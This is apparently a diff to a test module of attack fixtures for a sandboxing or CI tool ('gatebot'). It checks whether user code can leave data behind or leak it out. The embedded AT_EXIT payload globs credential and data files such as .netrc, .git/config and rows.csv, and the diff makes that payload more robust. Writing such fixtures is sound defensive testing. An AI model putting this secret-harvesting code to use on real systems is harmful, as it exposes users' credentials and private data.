@@ -1,16 +1,18 @@
 """User code leaves links, pipes and holes where gatebot reads what a training has left."""
 
 # ruff: noqa: E501 - payloads are easier to read on one line each
+import re
 from collections.abc import Callable
 
 from tests.attacks import project
 from tests.attacks.attack import Attack, Files
 from tests.attacks.bait import Bait
+from tests.attacks.scene import Outcome
 
 AT_EXIT = """\
 import atexit, glob, json, os, shutil, sys
 
-TASK = json.load(open(sys.argv[1]))
+TASK = json.load(open(open("/proc/self/cmdline").read().split("\\0")[-2]))
 SECRETS = [name for pattern in (JOBS + "/home/.netrc", JOBS + "/workspace/.git/config", JOBS + "/workspace/data/rows.csv",
            "/github/workspace/.git/config", "/github/workspace/data/rows.csv") for name in glob.glob(pattern)]
 SECRET = (SECRETS or [JOBS.replace("*", "1") + "/workspace/data/rows.csv"])[-1]
@@ -132,6 +134,11 @@ def _talking(bait: Bait) -> Files:
     return {"pipeline.py": f"{TALKS.replace('PORT', str(bait.port))}\n\n{code}"}
 
 
+def _tried(outcome: Outcome) -> None:
+    told = "".join(line for finding in outcome.report["findings"] for line in finding.get("log", ()))
+    assert not re.search(r"IndexError|NameError|SyntaxError|FileNotFoundError", f"{told}{outcome.log}"), outcome
+
+
 def _unheard(outcome: "object") -> None:
     assert not outcome.outputs["listener"], outcome  # type: ignore[attr-defined]
 
@@ -140,7 +147,7 @@ from tests.attacks.attack import BESIDE_A_TOKEN, CONFINED  # noqa: E402
 
 ATTACKS = (
     *(
-        Attack(name=name, change=_leaving(line), levels=CONFINED, slow=name not in FAST)
+        Attack(name=name, change=_leaving(line), levels=CONFINED, expect=_tried, slow=name not in FAST)
         for name, line in LEAVINGS.items()
     ),
     Attack(name="user code that writes to what it can name", change=_writing, levels=CONFINED),
